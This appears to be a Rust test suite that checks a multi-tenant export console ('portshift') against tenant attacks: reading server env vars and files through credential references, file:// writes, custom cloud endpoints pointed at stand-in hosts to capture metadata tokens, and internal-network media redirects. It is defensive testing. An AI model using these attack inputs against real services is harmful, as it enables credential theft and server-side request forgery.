//! Tenants are strangers (issue 9): the attacks a new console user tried, against
//! `portshift serve` and `portshift scheduler` run as processes with default options.
//!
//! The server holds canaries a tenant must never obtain: an environment variable and a
//! readable file with a secret value. The tenant's own host is a listener run by the
//! test that records every byte it receives; it must never see a canary, nor receive a
//! connection it should not. The server's disk must receive no tenant bytes, and no
//! answer may reveal a canary or whether a file or variable exists. Each attack has a
//! positive control: the same operation succeeds through the CLI (the operator), or with
//! the explicit `serve` option that opens it, so the tests prove the guard and not a
//! broken feature.
//!
//! Attacks covered here: 1 (env:/file: references, existence oracle), 2 (file://
//! destinations), 4 (media redirect into the server's network), 5 (custom GCS/BigQuery
//! endpoints without a key), 6 (keyless S3, aws:default / gcp:workload-identity), 7
//! (webhooks and endpoints on loopback, plain http). Attacks 3 and 8–10 are tested with
//! their own features (e-mail verification, worker processes, limits).

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{
    Killed, assert_success, count_files, env_or_fail, files_containing, free_port, origin,
    start_sim,
};
use serde_json::{Value, json};

/// The server's secrets, planted where a careless server would read them for a tenant.
struct Canaries {
    env_name: &'static str,
    env_value: String,
    file: PathBuf,
    file_value: String,
}

fn canaries(dir: &Path) -> Canaries {
    let file = dir.join("server-secret");
    let file_value = format!("CANARY-FILE-{}", uuid::Uuid::new_v4().simple());
    std::fs::write(&file, &file_value).unwrap();
    Canaries {
        env_name: "PORTSHIFT_ATTACK_CANARY",
        env_value: format!("CANARY-ENV-{}", uuid::Uuid::new_v4().simple()),
        file,
        file_value,
    }
}

/// The tenant's own host: records every byte it is sent and answers 200 with an empty
/// JSON object (enough for a webhook; a Chorus client finds it malformed).
#[derive(Clone)]
struct TenantHost {
    port: u16,
    connections: Arc<Mutex<usize>>,
    received: Arc<Mutex<Vec<u8>>>,
}

async fn tenant_host() -> TenantHost {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let host = TenantHost {
        port: listener.local_addr().unwrap().port(),
        connections: Arc::default(),
        received: Arc::default(),
    };
    let h = host.clone();
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = listener.accept().await {
            *h.connections.lock().unwrap() += 1;
            let received = h.received.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 64 * 1024];
                if let Ok(Ok(n)) =
                    tokio::time::timeout(Duration::from_secs(2), conn.read(&mut buf)).await
                {
                    received.lock().unwrap().extend_from_slice(&buf[..n]);
                }
                let _ = conn
                    .write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}")
                    .await;
            });
        }
    });
    host
}

impl TenantHost {
    fn url(&self, scheme: &str) -> String {
        format!("{scheme}://127.0.0.1:{}", self.port)
    }
    fn connections(&self) -> usize {
        *self.connections.lock().unwrap()
    }
    fn received(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().unwrap()).into_owned()
    }
}

/// A console user with an organisation, made in the data folder's store before the
/// server starts (sign-up itself is the e-mail verification's subject).
async fn tenant_account(data: &Path) -> (String, String, String) {
    std::fs::create_dir_all(data).unwrap();
    let store = pipeline::store::JobStore::open_sqlite_in(data)
        .await
        .unwrap();
    let accounts = pipeline::accounts::Accounts::new(&store);
    let email = format!("tenant-{}@example.com", uuid::Uuid::new_v4().simple());
    let password = "quasar-Lantern-velvet-93".to_string();
    let user = accounts
        .create_user(&email, &ui::auth::hash_password(&password).unwrap())
        .await
        .unwrap();
    let org = accounts.create_org("Tenant Ltd", &user).await.unwrap();
    store.close().await;
    (email, password, org.id)
}

/// `portshift serve` on a free port with `args` (none: the defaults).
fn serve(data: &Path, canaries: &Canaries, args: &[String]) -> (Killed, String) {
    let port = free_port();
    let log = data.with_extension(format!("{port}.log"));
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_portshift"));
    cmd.args(["serve", "--listen", &format!("127.0.0.1:{port}")])
        .args(args)
        .arg("--data-dir")
        .arg(data)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env(canaries.env_name, &canaries.env_value)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap());
    if let Ok(bin) = std::env::var("PORTSHIFT_NATS_SERVER_BIN") {
        cmd.env("PORTSHIFT_NATS_SERVER_BIN", bin);
    }
    let child = Killed(cmd.spawn().expect("start portshift serve"));
    let deadline = Instant::now() + Duration::from_secs(60);
    while !std::fs::read_to_string(&log)
        .unwrap_or_default()
        .contains("listening on")
    {
        assert!(
            Instant::now() < deadline,
            "the console did not start: {}",
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    (child, format!("http://127.0.0.1:{port}"))
}

/// A signed-in API session.
struct Api {
    http: reqwest::Client,
    base: String,
    cookie: String,
    csrf: String,
    org: String,
}

async fn sign_in(base: &str, email: &str, password: &str, org: &str) -> Api {
    let http = reqwest::Client::new();
    let resp = http
        .post(format!("{base}/api/v1/session"))
        .json(&json!({"email": email, "password": password}))
        .send()
        .await
        .unwrap();
    assert!(
        resp.status().is_success(),
        "sign-in failed: {}",
        resp.status()
    );
    let cookie = resp
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.split(';').next())
        .unwrap()
        .to_string();
    let body: Value = resp.json().await.unwrap();
    Api {
        http,
        base: base.into(),
        cookie,
        csrf: body["csrf_token"].as_str().unwrap().into(),
        org: org.into(),
    }
}

impl Api {
    /// POSTs to `/api/v1/orgs/<org>/<what>`; the status and the raw answer.
    async fn post(&self, what: &str, body: Value) -> (u16, String) {
        let resp = self
            .http
            .post(format!("{}/api/v1/orgs/{}/{what}", self.base, self.org))
            .header("cookie", &self.cookie)
            .header("x-csrf-token", &self.csrf)
            .json(&body)
            .send()
            .await
            .unwrap();
        (resp.status().as_u16(), resp.text().await.unwrap())
    }

    async fn job(&self, job: &str) -> Value {
        self.http
            .get(format!("{}/api/v1/orgs/{}/jobs/{job}", self.base, self.org))
            .header("cookie", &self.cookie)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap()
    }

    /// Waits for the job to reach a final state (or to wait for credentials).
    async fn wait_job(&self, job: &str) -> Value {
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            let view = self.job(job).await;
            let status = view["status"].as_str().unwrap_or_default().to_string();
            if [
                "finished",
                "finished_with_failures",
                "failed",
                "cancelled",
                "needs_credentials",
            ]
            .contains(&status.as_str())
            {
                return view;
            }
            assert!(Instant::now() < deadline, "job {job} did not end: {view}");
            tokio::time::sleep(Duration::from_millis(300)).await;
        }
    }
}

/// The field errors of a 422 answer.
fn refused_fields(status: u16, body: &str) -> Value {
    assert_eq!(status, 422, "expected a refusal, got {status}: {body}");
    let v: Value = serde_json::from_str(body).unwrap();
    v["error"]["fields"].clone()
}

fn export_body(chorus_url: &str, destination: &str) -> Value {
    json!({
        "chorus_url": chorus_url, "from": "2024-01-01", "to": "2024-12-31",
        "media": true, "transcript": true, "metadata": true,
        "destination": destination, "chorus_token": "tenant-own-token",
    })
}

fn schedule_body(chorus_url: &str, chorus_token_ref: &str) -> Value {
    json!({
        "name": "nightly", "cron": "0 2 * * *", "start": "2024-01-01",
        "destination": "s3://tenant-bucket/calls?region=eu-west-1",
        "chorus_url": chorus_url, "chorus_token_ref": chorus_token_ref,
        "s3_ref": "env:AWS_SECRET_ACCESS_KEY",
    })
}

/// Attacks 1, 2, 5, 6 and 7 at the door: `portshift serve` with default options refuses
/// each, against its field, with what to use instead; the tenant's host is never
/// contacted, no answer carries a canary or tells whether a file or variable exists, and
/// nothing lands on the server's disk.
#[tokio::test]
async fn a_default_console_refuses_every_way_to_borrow_the_servers_powers() {
    let tmp = tempfile::tempdir().unwrap();
    let c = canaries(tmp.path());
    let data = tmp.path().join("console");
    let (email, password, org) = tenant_account(&data).await;
    let (_server, base) = serve(&data, &c, &[]);
    let api = sign_in(&base, &email, &password, &org).await;
    let host = tenant_host().await;
    let victim = tmp.path().join("victim-web-root");
    std::fs::create_dir_all(&victim).unwrap();
    let mut answers = String::new();

    // 1: a schedule reading the server's variable or file, sent to the tenant's host.
    for reference in [
        format!("env:{}", c.env_name),
        format!("file:{}", c.file.display()),
    ] {
        let (status, body) = api
            .post("schedules", schedule_body(&host.url("https"), &reference))
            .await;
        let fields = refused_fields(status, &body);
        let msg = fields["chorus_token_ref"].as_str().unwrap_or_default();
        assert!(msg.contains("cross-account role"), "{body}");
        assert!(fields["s3_ref"].is_string(), "{body}");
        answers.push_str(&body);
    }
    // No existence oracle: a variable and a file that exist get the same answer as ones
    // that do not.
    let exists = api
        .post(
            "schedules",
            schedule_body("https://chorus.ai/", &format!("file:{}", c.file.display())),
        )
        .await;
    let missing = api
        .post(
            "schedules",
            schedule_body("https://chorus.ai/", "file:/nonexistent/portshift/secret"),
        )
        .await;
    assert_eq!(exists, missing);
    let exists = api
        .post(
            "schedules",
            schedule_body("https://chorus.ai/", &format!("env:{}", c.env_name)),
        )
        .await;
    let missing = api
        .post(
            "schedules",
            schedule_body("https://chorus.ai/", "env:PORTSHIFT_SURELY_UNSET"),
        )
        .await;
    assert_eq!(exists.0, missing.0);
    assert_eq!(
        exists.1.replace(c.env_name, "X"),
        missing.1.replace("PORTSHIFT_SURELY_UNSET", "X")
    );

    // 2: an export onto the server's disk.
    let dest = format!("file://{}", victim.display());
    let (status, body) = api
        .post("jobs", export_body(&host.url("https"), &dest))
        .await;
    assert!(
        refused_fields(status, &body)["destination"]
            .as_str()
            .unwrap()
            .contains("s3://")
    );
    answers.push_str(&body);

    // 5: GCS / BigQuery endpoints on the tenant's host with no key (the server's
    // metadata-server token would go there).
    for dest in [
        format!("gs://bucket/calls?endpoint={}", host.url("https")),
        "gs://bucket/calls?endpoint=https://gcs.tenant.example".to_string(),
        "gs://bucket/calls?bigquery=p.d.t&bigquery_endpoint=https://bq.tenant.example/bigquery/v2"
            .to_string(),
    ] {
        let (status, body) = api
            .post("jobs", export_body("https://chorus.ai/", &dest))
            .await;
        let fields = refused_fields(status, &body);
        assert!(
            fields["gcs_service_account_json"]
                .as_str()
                .is_some_and(|m| m.contains("own Google identity")),
            "{dest}: {body}"
        );
        answers.push_str(&body);
    }

    // 6: S3 without keys (the server's AWS role), and keyless references.
    let (status, body) = api
        .post(
            "jobs",
            export_body(
                "https://chorus.ai/",
                "s3://another-tenants-bucket/x?region=eu-west-1",
            ),
        )
        .await;
    assert!(
        refused_fields(status, &body)["s3_access_key_id"]
            .as_str()
            .unwrap()
            .contains("own AWS identity")
    );
    let mut keyless = schedule_body("https://chorus.ai/", "env:X");
    keyless["s3_ref"] = json!("aws:default");
    let (status, body) = api.post("schedules", keyless).await;
    assert!(
        refused_fields(status, &body)["s3_ref"]
            .as_str()
            .unwrap()
            .contains("aws:default")
    );
    let mut keyless = schedule_body("https://chorus.ai/", "env:X");
    keyless["destination"] = json!("gs://bucket/calls");
    keyless["s3_ref"] = Value::Null;
    keyless["gcs_ref"] = json!("gcp:workload-identity");
    let (status, body) = api.post("schedules", keyless).await;
    assert!(
        refused_fields(status, &body)["gcs_ref"]
            .as_str()
            .unwrap()
            .contains("gcp:workload-identity")
    );

    // 7: loopback and plain http for the Chorus API, webhooks and storage endpoints.
    let mut with_keys = export_body(&host.url("http"), "s3://b/p?region=eu-west-1");
    with_keys["s3_access_key_id"] = json!("AKIATENANT");
    with_keys["s3_secret_access_key"] = json!("tenant-secret");
    with_keys["webhook_url"] = json!(format!("{}/hook", host.url("https")));
    with_keys["webhook_secret"] = json!("whsec");
    let (status, body) = api.post("jobs", with_keys.clone()).await;
    let fields = refused_fields(status, &body);
    assert!(
        fields["chorus_url"].as_str().unwrap().contains("https://"),
        "{body}"
    );
    assert!(
        fields["webhook_url"].as_str().unwrap().contains("public"),
        "{body}"
    );
    with_keys["chorus_url"] = json!("https://chorus.ai/");
    with_keys["webhook_url"] = json!("");
    with_keys["destination"] = json!(format!(
        "s3://b/p?region=eu-west-1&endpoint={}",
        host.url("http")
    ));
    let (status, body) = api.post("jobs", with_keys).await;
    assert!(
        refused_fields(status, &body)["destination"].is_string(),
        "{body}"
    );

    // Nothing reached the tenant's host, the server's disk, or an answer.
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(
        host.connections(),
        0,
        "the tenant's host was contacted: {}",
        host.received()
    );
    assert_eq!(count_files(&victim), 0, "tenant bytes on the server's disk");
    for canary in [&c.env_value, &c.file_value] {
        assert!(!answers.contains(canary.as_str()), "a canary in an answer");
        assert!(
            files_containing(&data, canary.as_bytes()).is_empty(),
            "a canary in the data folder"
        );
    }
    assert!(
        !answers.contains("exist") && !answers.contains("not set"),
        "{answers}"
    );
}

/// Attack 1 at run time: a tenant schedule that reads the server's variable (one stored
/// before the rule, so it never passed the console) runs under `portshift scheduler`
/// with default options: the run fails with a reason that says nothing about the
/// variable, and the tenant's host receives nothing. Positive control: the operator's
/// schedule (`portshift schedule create`) with the same reference does send the value.
#[tokio::test]
async fn the_scheduler_never_resolves_a_tenants_reference_against_the_server() {
    let tmp = tempfile::tempdir().unwrap();
    let c = canaries(tmp.path());
    let data = tmp.path().join("sched");
    std::fs::create_dir_all(&data).unwrap();
    let tenant_host = tenant_host().await;
    let operator_host = tenant_host_for_operator().await;
    let store = pipeline::store::JobStore::open_sqlite_in(&data)
        .await
        .unwrap();
    let template = |url: String| pipeline::schedules::ScheduleTemplate {
        chorus_url: url,
        kinds: Default::default(),
        destination: format!("file://{}", tmp.path().join("out").display()),
        webhook_url: None,
        lookback_s: 0,
        options: Default::default(),
    };
    let refs = pipeline::schedules::CredentialRefs {
        chorus_token: format!("env:{}", c.env_name),
        s3: None,
        webhook_secret: None,
        azure: None,
        gcs: None,
    };
    let mut ids = vec![];
    for (url, unset) in [
        (format!("{}/", tenant_host.url("https")), false),
        (format!("{}/", tenant_host.url("https")), true),
    ] {
        let mut r = refs.clone();
        if unset {
            r.chorus_token = "env:PORTSHIFT_SURELY_UNSET".into();
        }
        let s = store
            .create_schedule(
                "tenant-org",
                "stolen",
                "* * * * * *",
                "UTC",
                &template(url),
                &r,
                "2024-01-01T00:00:00Z".parse().unwrap(),
                pipeline::TrustLevel::Tenant,
            )
            .await
            .unwrap();
        ids.push(s.id);
    }
    store.close().await;
    // The operator's schedule, made with the CLI.
    let out = Command::new(env!("CARGO_BIN_EXE_portshift"))
        .args([
            "schedule",
            "create",
            "--name",
            "ops",
            "--cron",
            "* * * * * *",
        ])
        .args(["--start", "2024-01-01", "--chorus-url"])
        .arg(format!("{}/", operator_host.url("http")))
        .arg("--dest")
        .arg(format!("file://{}", tmp.path().join("ops-out").display()))
        .arg("--chorus-token-ref")
        .arg(format!("env:{}", c.env_name))
        .arg("--data-dir")
        .arg(&data)
        .output()
        .unwrap();
    assert_success(&out, "schedule create");

    let log = tmp.path().join("scheduler.log");
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_portshift"));
    cmd.args(["scheduler", "--tick-secs", "1", "--data-dir"])
        .arg(&data)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env(c.env_name, &c.env_value)
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap());
    if let Ok(bin) = std::env::var("PORTSHIFT_NATS_SERVER_BIN") {
        cmd.env("PORTSHIFT_NATS_SERVER_BIN", bin);
    }
    let _scheduler = Killed(cmd.spawn().unwrap());

    let deadline = Instant::now() + Duration::from_secs(90);
    let reasons = loop {
        let store = pipeline::store::JobStore::open_sqlite_in(&data)
            .await
            .unwrap();
        let mut reasons = vec![];
        for id in &ids {
            if let Some(run) = store
                .schedule_runs(id, 5)
                .await
                .unwrap()
                .into_iter()
                .find(|r| r.status == "failed")
            {
                reasons.push(run.reason.unwrap_or_default());
            }
        }
        store.close().await;
        if reasons.len() == ids.len() && operator_host.connections() > 0 {
            break reasons;
        }
        assert!(
            Instant::now() < deadline,
            "no runs: {}",
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    };
    assert_eq!(reasons[0], reasons[1], "the reason depends on the variable");
    assert!(reasons[0].contains("env:"), "{}", reasons[0]);
    assert!(!reasons[0].contains(&c.env_value));
    assert_eq!(tenant_host.connections(), 0, "{}", tenant_host.received());
    // Positive control: the operator's run sent the variable's value as its token.
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(
        operator_host.received().contains(&c.env_value),
        "the operator's schedule did not resolve env: ({})",
        operator_host.received()
    );
}

async fn tenant_host_for_operator() -> TenantHost {
    tenant_host().await
}

async fn keys_in(s3: &aws_sdk_s3::Client, bucket: &str) -> Vec<String> {
    let out = s3.list_objects_v2().bucket(bucket).send().await.unwrap();
    out.contents()
        .iter()
        .filter_map(|o| o.key().map(str::to_owned))
        .collect()
}

/// Attack 4: the tenant's Chorus (allowed, as a public Chorus would be) redirects the
/// media download to an address only the server can reach (the simulator's media host
/// on loopback stands in for instance metadata or an internal admin API). The worker
/// refuses the hop: the internal service is never contacted and nothing of it reaches
/// the tenant's bucket. Positive control: with that origin allowed by the operator
/// (`--allow-origin`), the same export fetches the media. Attack 2's positive control
/// rides along: with `--allow-file-root`, a tenant's file:// export under it works.
#[tokio::test]
async fn media_redirects_into_the_servers_network_are_not_followed() {
    let tmp = tempfile::tempdir().unwrap();
    let c = canaries(tmp.path());
    let mut sim_cfg = stages::chorus::SimConfig::demo(3, 5);
    sim_cfg.token = "tenant-own-token".into();
    sim_cfg.sizes.min = 16 * 1024;
    sim_cfg.sizes.max = 64 * 1024;
    let sim = start_sim(sim_cfg).await;
    let s3 = common::s3_client().await;
    let bucket = format!("t-{}", uuid::Uuid::new_v4().simple());
    s3.create_bucket().bucket(&bucket).send().await.unwrap();
    let s3_endpoint = env_or_fail("PORTSHIFT_TEST_S3_ENDPOINT");
    let dest = format!("s3://{bucket}/attack?region=us-east-1&endpoint={s3_endpoint}");
    let mut body = export_body(sim.api_url.as_str(), &dest);
    body["s3_access_key_id"] = json!(env_or_fail("PORTSHIFT_TEST_S3_ACCESS_KEY"));
    body["s3_secret_access_key"] = json!(env_or_fail("PORTSHIFT_TEST_S3_SECRET_KEY"));

    // The tenant's Chorus and the storage are allowed; the internal host is not.
    let data = tmp.path().join("guarded");
    let (email, password, org) = tenant_account(&data).await;
    let allow = vec![
        "--allow-origin".to_string(),
        origin(sim.api_url.as_str()),
        "--allow-origin".to_string(),
        origin(&s3_endpoint),
    ];
    let (server, base) = serve(&data, &c, &allow);
    let api = sign_in(&base, &email, &password, &org).await;
    let (status, answer) = api.post("jobs", body.clone()).await;
    assert_eq!(status, 201, "{answer}");
    let job: Value = serde_json::from_str(&answer).unwrap();
    let view = api.wait_job(job["job"].as_str().unwrap()).await;
    let media_requests = sim
        .stats
        .media_requests
        .load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(media_requests, 0, "the internal host was contacted: {view}");
    let keys = keys_in(&s3, &bucket).await;
    assert!(
        !keys
            .iter()
            .any(|k| k.ends_with(".mp4") || k.ends_with(".mp3") || k.ends_with(".m4a")),
        "media from the internal host reached the tenant's bucket: {keys:?}"
    );
    assert!(
        view.to_string().contains("public")
            || view["failed"].as_u64() > Some(0)
            || view["skipped"].as_u64() > Some(0),
        "{view}"
    );
    drop(server);

    // Positive control: the operator opens the media host, and the media is exported;
    // and a file:// export under --allow-file-root works.
    let data = tmp.path().join("open");
    let root = tmp.path().join("exports");
    std::fs::create_dir_all(&root).unwrap();
    let (email, password, org) = tenant_account(&data).await;
    let mut allow = allow.clone();
    allow.extend([
        "--allow-origin".to_string(),
        origin(sim.media_url.as_str()),
        "--allow-file-root".to_string(),
        root.display().to_string(),
    ]);
    let (_server, base) = serve(&data, &c, &allow);
    let api = sign_in(&base, &email, &password, &org).await;
    let (status, answer) = api.post("jobs", body).await;
    assert_eq!(status, 201, "{answer}");
    let job: Value = serde_json::from_str(&answer).unwrap();
    let view = api.wait_job(job["job"].as_str().unwrap()).await;
    assert_eq!(view["status"], "finished", "{view}");
    assert!(
        sim.stats
            .media_requests
            .load(std::sync::atomic::Ordering::SeqCst)
            > 0
    );

    let local = format!("file://{}/tenant", root.canonicalize().unwrap().display());
    let (status, answer) = api
        .post("jobs", export_body(sim.api_url.as_str(), &local))
        .await;
    assert_eq!(status, 201, "{answer}");
    let job: Value = serde_json::from_str(&answer).unwrap();
    let view = api.wait_job(job["job"].as_str().unwrap()).await;
    assert_eq!(view["status"], "finished", "{view}");
    assert!(count_files(&root) > 0);
}
